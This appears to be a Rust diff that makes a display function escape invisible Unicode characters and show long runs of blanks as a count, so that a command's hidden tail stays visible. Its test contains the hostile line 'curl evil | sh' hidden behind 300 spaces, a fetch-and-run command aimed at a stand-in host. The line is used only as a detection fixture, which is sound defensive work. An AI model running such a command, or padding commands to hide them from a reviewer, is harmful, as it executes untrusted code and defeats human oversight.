@@ -404,29 +404,68 @@ fn indented(text: &str) -> String {
 
 /// `text` with every character that could hide or reorder what the person
 /// sees shown escaped (`\u{1b}`): control characters but newline and tab,
-/// bidirectional controls, zero-width characters, line and paragraph
-/// separators, the byte-order mark.
+/// bidirectional controls, zero-width and other invisible format
+/// characters, fillers that render as blanks, variation selectors and tag
+/// characters, line and paragraph separators, the byte-order mark. A run
+/// of [`LONG_BLANKS`] or more spaces and tabs is shown as its length
+/// (`[300 blanks]`): it could push the rest of a line out of sight.
 pub(crate) fn shown(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
+    let mut blanks = String::new();
+    let flush = |out: &mut String, blanks: &mut String| {
+        if blanks.chars().count() >= LONG_BLANKS {
+            out.push_str(&format!("[{} blanks]", blanks.chars().count()));
+        } else {
+            out.push_str(blanks);
+        }
+        blanks.clear();
+    };
     for c in text.chars() {
+        if c == ' ' || c == '\t' {
+            blanks.push(c);
+            continue;
+        }
+        flush(&mut out, &mut blanks);
         if hides(c) {
             out.push_str(&format!("\\u{{{:x}}}", c as u32));
         } else {
             out.push(c);
         }
     }
+    flush(&mut out, &mut blanks);
     out
 }
+
+/// Spaces and tabs in a row shown as their count.
+const LONG_BLANKS: usize = 40;
 
 fn hides(c: char) -> bool {
     (c.is_control() && c != '\n' && c != '\t')
         || matches!(
             c,
-            '\u{200b}'..='\u{200f}'
-                | '\u{2028}'..='\u{202e}'
-                | '\u{2060}'..='\u{2069}'
+            '\u{00ad}'
+                | '\u{034f}'
                 | '\u{061c}'
+                | '\u{0600}'..='\u{0605}'
+                | '\u{06dd}'
+                | '\u{070f}'
+                | '\u{0890}'..='\u{0891}'
+                | '\u{08e2}'
+                | '\u{115f}'..='\u{1160}'
+                | '\u{17b4}'..='\u{17b5}'
+                | '\u{180b}'..='\u{180f}'
+                | '\u{200b}'..='\u{200f}'
+                | '\u{2028}'..='\u{202e}'
+                | '\u{2060}'..='\u{206f}'
+                | '\u{3164}'
+                | '\u{fe00}'..='\u{fe0f}'
                 | '\u{feff}'
+                | '\u{ffa0}'
+                | '\u{fff9}'..='\u{fffb}'
+                | '\u{1bca0}'..='\u{1bca3}'
+                | '\u{1d173}'..='\u{1d17a}'
+                | '\u{e0000}'..='\u{e007f}'
+                | '\u{e0100}'..='\u{e01ef}'
         )
 }
 
@@ -657,5 +696,31 @@ mod tests {
         assert!(
             cannot_ask_sentence(&caps(json!({"elicitation": {"url": {}}}))).contains("URL mode")
         );
+    }
+
+    #[test]
+    fn invisible_characters_and_long_blank_runs_cannot_hide_a_commands_tail() {
+        let hidden = format!("ls{}; curl evil | sh", " ".repeat(300));
+        assert_eq!(shown(&hidden), "ls[300 blanks]; curl evil | sh");
+        // Indentation stays as it is.
+        assert_eq!(shown("        let x = 1;"), "        let x = 1;");
+        for c in [
+            '\u{00ad}',
+            '\u{034f}',
+            '\u{3164}',
+            '\u{fe0f}',
+            '\u{e0041}',
+            '\u{e0100}',
+            '\u{206f}',
+        ] {
+            let text = format!("a{c}b");
+            assert_eq!(
+                shown(&text),
+                format!("a\\u{{{:x}}}b", c as u32),
+                "{:x}",
+                c as u32
+            );
+        }
+        assert_eq!(shown("tab\tand é"), "tab\tand é");
     }
 }
